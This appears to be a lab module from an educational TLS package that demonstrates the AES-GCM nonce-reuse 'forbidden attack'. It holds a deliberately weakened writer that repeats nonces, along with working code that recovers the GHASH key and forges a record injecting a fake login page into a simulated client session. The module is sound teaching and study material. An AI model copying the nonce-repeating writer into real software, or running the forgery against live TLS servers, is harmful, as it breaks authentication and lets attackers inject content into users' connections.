"""Lab 5 — AES-GCM nonce reuse: the "forbidden attack".

GCM (NIST SP 800-38D) encrypts with a counter-mode keystream from the nonce and authenticates
with GHASH, a polynomial in ``H = AES_K(0^128)`` evaluated over GF(2^128)::

    C = P XOR keystream(K, nonce)
    T = GHASH_H(A, C) XOR AES_K(J0)        J0 = nonce || 00000001
    GHASH_H(A, C) = B_1·H^m + B_2·H^(m-1) + ... + B_m·H   (the blocks of A, of C, and the lengths)

Send two records under one key and one nonce and both masks repeat: ``C1 XOR C2 = P1 XOR P2``
(a known plaintext gives the other), and ``T1 XOR T2`` is a polynomial in ``H`` with known
coefficients — ``AES_K(J0)`` cancels. Its roots include ``H``; with ``H``, ``AES_K(J0) = T1 XOR
GHASH_H(A1, C1)``, and the attacker computes a valid tag for any ciphertext it likes under that
nonce. A. Joux, "Authentication Failures in NIST version of GCM" (comment to NIST, 2006);
H. Böck, A. Zauner, S. Devlin, J. Somorovsky, P. Jovanovic, "Nonce-Disrespecting Adversaries:
Practical Forgery Attacks on GCM in TLS", USENIX WOOT 2016, found TLS servers repeating nonces
and forged records on live sites.

TLS's rules prevent it: RFC 5288 §3 makes the TLS 1.2 sender choose a fresh ``nonce_explicit``
for each record (this package sends the sequence number), and TLS 1.3 (RFC 8446 §5.3) and
ChaCha20-Poly1305 (RFC 7905) derive the nonce from the sequence number, sending none. The
weakened writer here breaks the first rule, lesson only.

The arithmetic of GF(2^128) and of polynomials over it is the attacker's and is written here;
AES and GCM themselves stay ``cryptography``'s.
"""
from __future__ import annotations

import struct
from dataclasses import dataclass, field

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from .. import suites
from ..client import ClientConnection
from ..errors import AlertError
from ..lesson.configs import lesson_configs
from ..record import AEAD12, Record, additional_data_12, nonce_12_gcm, _new_record
from ..server import ServerConnection
from .inmemory import run, send_data

GCM_SUITE = suites.get("TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256")
RESPONSES = (b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<p>Your balance: 12 EUR</p>",
             b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<p>Transfer received.</p>",
             b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<p>Have a nice day!!</p>")
FORGED = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<p>Log in: evil.example</p>"


# -- the weakened writer (lesson only) -------------------------------------------------------------
class RepeatingNonceAEAD12(AEAD12):
    """LESSON ONLY — TLS 1.2 AES-GCM protection that sends the same ``nonce_explicit`` in every
    record (as the devices Böck et al. 2016 found did), breaking RFC 5288 §3. Never a default:
    a lab puts it in place of a connection's writer with ``reuse_nonces``."""

    def __init__(self, suite, key: bytes, iv: bytes, explicit: bytes, seq: int):
        super().__init__(suite, key, iv)
        self.explicit, self.seq = explicit, seq

    def seal(self, content_type: int, version: int, plaintext: bytes) -> Record:
        seq, self.seq = self.seq, self.seq + 1
        aad = additional_data_12(seq, content_type, version, len(plaintext))
        ciphertext = self.aead.encrypt(nonce_12_gcm(self.iv, self.explicit), plaintext, aad)
        return _new_record((content_type, version, self.explicit + ciphertext))


def reuse_nonces(connection) -> None:
    """Replace a TLS 1.2 AES-GCM connection's writer by one repeating its next nonce."""
    kb = connection.values["key_block"]
    ours = "server" if connection.role == "server" else "client"
    seq = connection.records.write.seq
    connection.records.write = RepeatingNonceAEAD12(
        connection.suite, getattr(kb, f"{ours}_write_key"), getattr(kb, f"{ours}_write_iv"),
        seq.to_bytes(8, "big"), seq)


# -- GF(2^128) as GCM defines it (SP 800-38D §6.3) --------------------------------------------------
R = (1 << 128) | 0x87          # x^128 + x^7 + x^2 + x + 1


def to_field(block: bytes) -> int:
    """GCM's bit order: the first bit of the block is the coefficient of x^0."""
    value = int.from_bytes(block.ljust(16, bytes(1)), "big")
    return int(f"{value:0128b}"[::-1], 2)


def from_field(a: int) -> bytes:
    return int(f"{a:0128b}"[::-1], 2).to_bytes(16, "big")


def gf_mul(a: int, b: int) -> int:
    r = 0
    while b:                       # carry-less product ...
        if b & 1:
            r ^= a
        a <<= 1
        b >>= 1
    for i in range(r.bit_length() - 1, 127, -1):    # ... reduced mod R
        if r >> i & 1:
            r ^= R << (i - 128)
    return r


def gf_pow(a: int, e: int) -> int:
    r = 1
    while e:
        if e & 1:
            r = gf_mul(r, a)
        a = gf_mul(a, a)
        e >>= 1
    return r


def gf_inv(a: int) -> int:
    return gf_pow(a, (1 << 128) - 2)      # a^(2^128 - 2) = a^-1 in GF(2^128)


def ghash_blocks(aad: bytes, ciphertext: bytes) -> list[int]:
    """B_1 .. B_m: the zero-padded blocks of A, of C, then len(A) || len(C) in bits."""
    def blocks(data):
        return [to_field(data[i:i + 16]) for i in range(0, len(data), 16)]
    return blocks(aad) + blocks(ciphertext) + \
        [to_field(struct.pack(">QQ", 8 * len(aad), 8 * len(ciphertext)))]


def ghash(h: int, aad: bytes, ciphertext: bytes) -> int:
    x = 0
    for b in ghash_blocks(aad, ciphertext):
        x = gf_mul(x ^ b, h)
    return x


# -- polynomials over GF(2^128): lists of coefficients, lowest degree first -------------------------
def _trim(p: list) -> list:
    while p and p[-1] == 0:
        p = p[:-1]
    return p


def p_add(p: list, q: list) -> list:
    n = max(len(p), len(q))
    return _trim([(p[i] if i < len(p) else 0) ^ (q[i] if i < len(q) else 0) for i in range(n)])


def p_mul(p: list, q: list) -> list:
    out = [0] * (len(p) + len(q) - 1) if p and q else []
    for i, a in enumerate(p):
        if a:
            for j, b in enumerate(q):
                out[i + j] ^= gf_mul(a, b)
    return _trim(out)


def p_divmod(p: list, q: list) -> tuple[list, list]:
    p, q = _trim(list(p)), _trim(q)
    inv = gf_inv(q[-1])
    quotient = [0] * max(len(p) - len(q) + 1, 0)
    while len(p) >= len(q):
        factor, shift = gf_mul(p[-1], inv), len(p) - len(q)
        quotient[shift] = factor
        for i, b in enumerate(q):
            p[i + shift] ^= gf_mul(factor, b)
        p = _trim(p)
    return _trim(quotient), p


def p_gcd(p: list, q: list) -> list:
    p, q = _trim(p), _trim(q)
    while q:
        p, q = q, p_divmod(p, q)[1]
    inv = gf_inv(p[-1])
    return [gf_mul(c, inv) for c in p]           # monic


def p_square_mod(p: list, f: list) -> list:
    return p_divmod(p_mul(p, p), f)[1]


def roots(f: list, rng) -> list[int]:
    """Every root in GF(2^128) of ``f``: g = gcd(f, X^(2^128) - X) keeps its linear factors;
    Cantor–Zassenhaus splits g with the trace map Tr(a) = a + a^2 + ... + a^(2^127) mod g
    (each random ``a`` splits it with probability about 1/2; at most 64 tries per split)."""
    f = p_gcd(f, f)                               # monic
    x = [0, 1]
    power = x
    for _ in range(128):                          # X^(2^128) mod f
        power = p_square_mod(power, f)
    g = p_gcd(f, p_add(power, x))
    found: list[int] = []

    def split(g):
        if len(g) <= 1:
            return
        if len(g) == 2:                           # X + c: root c (characteristic 2)
            found.append(g[0])
            return
        for _ in range(64):
            a = [int.from_bytes(rng.bytes(16), "big") for _ in range(len(g) - 1)]
            trace, term = a, a
            for _ in range(127):
                term = p_square_mod(term, g)
                trace = p_add(trace, term)
            d = p_gcd(g, trace) if trace else []
            if 1 < len(d) < len(g):
                split(d)
                split(p_divmod(g, d)[0])
                return
        raise ValueError("could not split the polynomial (64 tries)")

    split(g)
    return sorted(found)


def tag_difference_polynomial(r1: "Seen", r2: "Seen") -> list:
    """T1 XOR T2 as a polynomial in H: the GHASH blocks of each record at their powers of H
    (the same nonce makes AES_K(J0) cancel), plus the known constant T1 XOR T2."""
    def coefficients(seen):
        blocks = ghash_blocks(seen.aad, seen.ciphertext)
        m = len(blocks)
        return [0] + [blocks[m - i] for i in range(1, m + 1)]    # B_i at H^(m-i+1)
    return p_add(p_add(coefficients(r1), coefficients(r2)),
                 [to_field(r1.tag) ^ to_field(r2.tag)])


# -- the attack ---------------------------------------------------------------------------------
@dataclass
class Seen:
    """One TLS 1.2 AES-GCM record as the attacker on the wire reads it, with the additional
    data it can rebuild (the sequence number is implicit: it counts the records)."""
    seq: int
    nonce_explicit: bytes
    ciphertext: bytes
    tag: bytes
    aad: bytes

    @classmethod
    def of(cls, rec: bytes, seq: int) -> "Seen":
        r = Record.decode(rec)
        body = r.fragment
        return cls(seq, body[:8], body[8:-16], body[-16:],
                   additional_data_12(seq, r.content_type, r.version, len(body) - 24))


@dataclass
class Result:
    succeeded: bool                   # the client accepted the forged record
    nonces: list                      # nonce_explicit of each record seen
    xor_of_plaintexts: bytes          # C1 XOR C2 (= P1 XOR P2 when the nonce repeats)
    candidates: list                  # roots of the tag polynomial
    h: int | None                     # the GHASH key the attacker settled on
    forged_record: bytes
    client_received: bytes | None
    check: str | None = None
    true_h: int | None = None         # AES_K(0^128), computed from the key afterwards (a check)
    log: list = field(default_factory=list)


def forge(h: int, mask: int, seen: Seen, known_plaintext: bytes, new_plaintext: bytes,
          seq: int) -> bytes:
    """A record the receiver accepts as its ``seq``-th: the keystream is ``C XOR P`` of a record
    under the repeated nonce; the tag is GHASH_H of the new A and C, XOR the mask AES_K(J0)."""
    keystream = bytes(a ^ b for a, b in zip(seen.ciphertext, known_plaintext))
    if len(new_plaintext) > len(keystream):
        raise ValueError("the known plaintext gives only so much keystream")
    ciphertext = bytes(a ^ b for a, b in zip(new_plaintext, keystream))
    aad = additional_data_12(seq, 23, 0x0303, len(ciphertext))
    tag = from_field(ghash(h, aad, ciphertext) ^ mask)
    return Record(23, 0x0303, seen.nonce_explicit + ciphertext + tag).encode()


def attack(weakened: bool, seed: str = "attack-lab/gcm", responses=RESPONSES,
           forged: bytes = FORGED) -> Result:
    """A TLS 1.2 AES-GCM session; the server (weakened or not) sends ``responses``; the attacker
    knows the first one (a standard reply), recovers H and injects ``forged`` to the client."""
    from ..rng import lesson_rng
    client_config, server_config = lesson_configs(seed, versions=("1.2",), suites=(GCM_SUITE,))
    session = run(ClientConnection(client_config), ServerConnection(server_config))
    server, client = session.server, session.client
    if weakened:
        reuse_nonces(server)
    start = len(session.records)
    for response in responses:
        send_data(session, "server", response)
    first_seq = server.records.write.seq - len(responses)
    seen = [Seen.of(rec, first_seq + i)
            for i, (_, _, rec) in enumerate(session.records[start:])]
    xor = bytes(a ^ b for a, b in zip(seen[0].ciphertext, seen[1].ciphertext))
    attacker_rng = lesson_rng(seed + "/attacker")
    candidates = roots(tag_difference_polynomial(seen[0], seen[1]), attacker_rng)
    h = None
    for candidate in candidates:          # the third record under the nonce picks the true H
        mask = to_field(seen[0].tag) ^ ghash(candidate, seen[0].aad, seen[0].ciphertext)
        if to_field(seen[2].tag) == ghash(candidate, seen[2].aad, seen[2].ciphertext) ^ mask:
            h = candidate
            break
    guess = h if h is not None else (candidates[0] if candidates else 1)   # try anyway
    mask = to_field(seen[0].tag) ^ ghash(guess, seen[0].aad, seen[0].ciphertext)
    record = forge(guess, mask, seen[0], responses[0], forged, client.records.read.seq)
    received, check = None, None
    try:
        events = client.receive(record)
        received = b"".join(e.data for e in events if hasattr(e, "data"))
    except AlertError as error:
        check = error.check
    key = server.values["key_block"].server_write_key
    enc = Cipher(algorithms.AES(key), modes.ECB()).encryptor()
    true_h = to_field(enc.update(bytes(16)) + enc.finalize())
    return Result(received == forged, [s.nonce_explicit for s in seen], xor, candidates, h,
                  record, received, check, true_h)
